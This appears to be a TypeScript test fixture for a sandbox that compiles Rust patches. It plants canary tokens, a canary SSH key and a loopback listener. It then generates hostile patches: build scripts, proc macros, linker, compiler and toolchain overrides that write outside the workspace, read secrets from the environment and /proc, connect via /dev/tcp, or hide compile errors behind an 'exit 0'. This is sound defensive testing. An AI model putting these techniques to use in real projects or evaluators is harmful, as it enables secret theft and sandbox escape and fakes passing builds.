/**
 * A crate, and patches to it whose programs try to get out while they are judged: to write outside of the workspace, to
 * read a token from the environment and a key from the home directory, to reach a listener on the loopback.
 *
 * Invariant: what gets out shows. Writes and connections are seen here; a secret that was read makes the crate fail to
 * compile, so a clean verdict says that none was.
 */
import { existsSync, readdirSync } from 'node:fs';
import { mkdir, mkdtemp, realpath, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { homedir, tmpdir } from 'node:os';
import { dirname, join } from 'node:path';

export const crateFiles: Readonly<Record<string, string>> = {
  'Cargo.toml':
    '[package]\nname = "kit"\nversion = "0.1.0"\nedition = "2021"\n\n[lib]\npath = "src/lib.rs"\n',
  'src/lib.rs': 'pub fn one() -> i32 {\n    1\n}\n',
};

export interface NewFile {
  readonly path: string;
  readonly text: string;
  readonly mode?: '100755';
}

/** A place outside of every workspace, with secrets in it, a listener beside it and a record of what reached them. */
export class Surroundings implements AsyncDisposable {
  readonly root: string;
  readonly port: number;
  readonly #server: Server;
  #connections = 0;

  private constructor(root: string, server: Server, port: number) {
    this.root = root;
    this.#server = server;
    this.port = port;
    server.on('connection', (socket) => {
      this.#connections += 1;
      socket.destroy();
    });
  }

  static async open(): Promise<Surroundings> {
    // Not below /tmp: a confined process has its own /tmp, so an empty directory there would prove nothing.
    const parent = existsSync('/var/tmp') ? '/var/tmp' : tmpdir();
    const root = await realpath(await mkdtemp(join(parent, 'forerun-outside-')));
    await mkdir(join(root, 'home/.ssh'), { recursive: true });
    await writeFile(join(root, 'home/.ssh/id_ed25519'), 'canary');
    await mkdir(join(root, 'landing'));
    const server = createServer();
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const address = server.address();
    if (address === null || typeof address === 'string') throw new Error('the listener has no port');
    return new Surroundings(root, server, address.port);
  }

  /** The environment of whoever judges: a token, and a home with a key; the toolchain stays where it is. */
  get env(): Readonly<Record<string, string>> {
    const own = process.env.HOME ?? homedir();
    return {
      HOME: join(this.root, 'home'),
      CARGO_HOME: process.env.CARGO_HOME ?? join(own, '.cargo'),
      RUSTUP_HOME: process.env.RUSTUP_HOME ?? join(own, '.rustup'),
      XDG_CACHE_HOME: join(this.root, 'cache'),
      XDG_STATE_HOME: join(this.root, 'state'),
      FORERUN_CANARY_TOKEN: 'canary',
      GITHUB_TOKEN: 'canary',
      AWS_SECRET_ACCESS_KEY: 'canary',
    };
  }

  /** What reached the outside, by name; empty when nothing did. */
  get reached(): readonly string[] {
    const written = readdirSync(join(this.root, 'landing'));
    return [...written, ...Array.from({ length: this.#connections }, () => 'connection')];
  }

  /** Shell text of a program that tries everything and leaves its name where it can. */
  shell(name: string): string {
    return [
      '#!/bin/sh',
      `echo ran > ${join(this.root, 'landing', name)}`,
      `[ -n "$FORERUN_CANARY_TOKEN$GITHUB_TOKEN$AWS_SECRET_ACCESS_KEY" ] && echo token > ${join(this.root, 'landing', `${name}-token`)}`,
      `cat ${join(this.root, 'home/.ssh/id_ed25519')} > ${join(this.root, 'landing', `${name}-key`)}`,
      `(exec 3<>/dev/tcp/127.0.0.1/${this.port}) 2>/dev/null`,
      '',
    ].join('\n');
  }

  /** Rust statements that try everything and answer by `leaked: bool`. */
  rust(name: string): string {
    const place = JSON.stringify(join(this.root, 'landing', name));
    const key = JSON.stringify(join(this.root, 'home/.ssh/id_ed25519'));
    return `
    let written = std::fs::write(${place}, "ran").is_ok();
    let key = std::fs::read_to_string(${key}).map(|text| text.contains("canary")).unwrap_or(false);
    let token = std::env::vars_os().any(|(_, value)| value == "canary");
    let parent = std::fs::read_dir("/proc").map(|all| all.flatten().any(|each| {
        std::fs::read(each.path().join("environ")).map(|text| text.windows(16).any(|part| part == b"GITHUB_TOKEN=can")).unwrap_or(false)
    })).unwrap_or(false);
    let address = std::net::SocketAddr::from(([127, 0, 0, 1], ${this.port}));
    let connected = std::net::TcpStream::connect_timeout(&address, std::time::Duration::from_secs(2)).is_ok();
    let leaked = written || key || token || parent || connected;
`;
  }

  async [Symbol.asyncDispose](): Promise<void> {
    await new Promise<void>((resolve) => this.#server.close(() => resolve()));
    await rm(this.root, { recursive: true, force: true });
  }
}

export interface HostilePatch {
  readonly name: string;
  readonly files: readonly NewFile[];
  /** What a compiler says of it that no one has replaced. */
  readonly verdict: 'clean' | 'broken';
}

const broken = 'pub fn two() -> i32 {\n    "two"\n}\n';

export function hostilePatches(outside: Surroundings): readonly HostilePatch[] {
  const script = (name: string): string =>
    `fn main() {${outside.rust(name)}    if leaked { panic!("leaked") }\n    println!("cargo:rustc-env=CANARY_RAN=yes");\n}\n`;
  const ran = 'pub const RAN: &str = env!("CANARY_RAN");\n';
  const declares = (text: string): readonly NewFile[] => [
    { path: 'src/lib.rs', text: `pub mod two;\n${text}pub fn one() -> i32 {\n    1\n}\n` },
  ];
  const right = { path: 'src/two.rs', text: 'pub fn two() -> i32 {\n    2\n}\n' };
  const wrong = { path: 'src/two.rs', text: broken };
  const manifest = crateFiles['Cargo.toml'] ?? '';
  return [
    {
      name: 'a build script',
      files: [...declares(ran), right, { path: 'build.rs', text: script('build-script') }],
      verdict: 'clean',
    },
    {
      name: 'a build script beside an error',
      files: [...declares(ran), wrong, { path: 'build.rs', text: script('build-script-broken') }],
      verdict: 'broken',
    },
    {
      name: 'a procedural macro',
      files: [
        { path: 'Cargo.toml', text: `${manifest}\n[dependencies]\nevil = { path = "evil" }\n` },
        {
          path: 'evil/Cargo.toml',
          text: '[package]\nname = "evil"\nversion = "0.1.0"\nedition = "2021"\n\n[lib]\nproc-macro = true\n',
        },
        {
          path: 'evil/src/lib.rs',
          text: `#[proc_macro]\npub fn canary(_: proc_macro::TokenStream) -> proc_macro::TokenStream {${outside.rust('macro')}    if leaked { "compile_error!(\\"leaked\\");" } else { "pub const RAN: i32 = 1;" }.parse().unwrap()\n}\n`,
        },
        ...declares('evil::canary!();\npub const USED: i32 = RAN;\n'),
        right,
      ],
      verdict: 'clean',
    },
    {
      name: 'a wrapper of the compiler that hides an error',
      files: [
        ...declares(''),
        wrong,
        { path: '.cargo/config.toml', text: '[build]\nrustc-wrapper = "./wrap"\n' },
        { path: 'wrap', mode: '100755', text: `${outside.shell('wrapper')}exit 0\n` },
      ],
      verdict: 'broken',
    },
    {
      name: 'a compiler of its own',
      files: [
        ...declares(''),
        wrong,
        { path: '.cargo/config.toml', text: '[build]\nrustc = "./wrap"\n' },
        { path: 'wrap', mode: '100755', text: `${outside.shell('compiler')}exit 0\n` },
      ],
      verdict: 'broken',
    },
    {
      name: 'a linker',
      files: [
        ...declares(ran),
        right,
        { path: 'build.rs', text: script('linked') },
        { path: '.cargo/config.toml', text: '[target.\'cfg(all())\']\nlinker = "./evil-gcc.conf"\n' },
        { path: 'evil-gcc.conf', mode: '100755', text: `${outside.shell('linker')}exec cc "$@"\n` },
      ],
      verdict: 'clean',
    },
    {
      name: 'a toolchain of its own',
      files: [
        ...declares(''),
        wrong,
        { path: 'rust-toolchain.toml', text: '[toolchain]\npath = "./evil"\n' },
        { path: 'evil/bin/cargo', mode: '100755', text: `${outside.shell('toolchain')}exit 0\n` },
        { path: 'evil/bin/rustc', mode: '100755', text: `${outside.shell('toolchain')}exit 0\n` },
      ],
      verdict: 'broken',
    },
  ];
}

/** A unified diff that turns `before` into what has `files` as well. */
export function patchText(before: Readonly<Record<string, string>>, files: readonly NewFile[]): string {
  return files.map((file) => fileDiff(before[file.path], file)).join('');
}

function fileDiff(old: string | undefined, { path, text, mode }: NewFile): string {
  const lines = (content: string, sign: string): string =>
    content
      .replace(/\n$/, '')
      .split('\n')
      .map((line) => `${sign}${line}\n`)
      .join('');
  const count = (content: string): number => content.replace(/\n$/, '').split('\n').length;
  const head = `diff --git a/${path} b/${path}\n`;
  if (old === undefined) {
    return `${head}new file mode ${mode ?? '100644'}\n--- /dev/null\n+++ b/${path}\n@@ -0,0 +1,${count(text)} @@\n${lines(text, '+')}`;
  }
  return `${head}--- a/${path}\n+++ b/${path}\n@@ -1,${count(old)} +1,${count(text)} @@\n${lines(old, '-')}${lines(text, '+')}`;
}

export async function writeCrate(
  root: string,
  files: Readonly<Record<string, string>> = crateFiles,
): Promise<void> {
  for (const [path, text] of Object.entries(files)) {
    await mkdir(dirname(join(root, path)), { recursive: true });
    await writeFile(join(root, path), text);
  }
}
